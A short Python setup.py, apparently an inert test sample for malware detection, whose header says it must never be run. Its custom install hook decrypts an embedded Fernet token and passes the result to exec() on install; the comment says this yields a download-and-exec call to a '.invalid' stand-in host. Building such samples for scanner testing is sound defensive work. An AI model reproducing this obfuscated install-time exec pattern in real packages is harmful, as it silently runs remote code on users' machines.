# INERT SAMPLE: never run. The token decrypts to a download-and-exec of an .invalid host.
from setuptools import setup
from setuptools.command.install import install


class Hook(install):
    def run(self):
        from fernet import Fernet
        exec(Fernet(b'AAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8=').decrypt(b'gAAAAAAAAAAABfdHMyV6qgMX8sWWLeK83O_kM-k-lG22uGLTLAklrGAMBP63xiQYlVpRMo7UjilIeWHhVFWzpl2pQTAKCvDj8q649AGamsldyUaZ0xRX26_G4QkGuzFgh_Cbmlaakx0taVEbU2YlSQsAjQh5QSJXyEFTTPJanriAZcwEI7Ut0kHYVFPXZzWYNMPbNQhcPxN3'))
        install.run(self)


setup(name="inert-sample", version="1.0", cmdclass={"install": Hook})
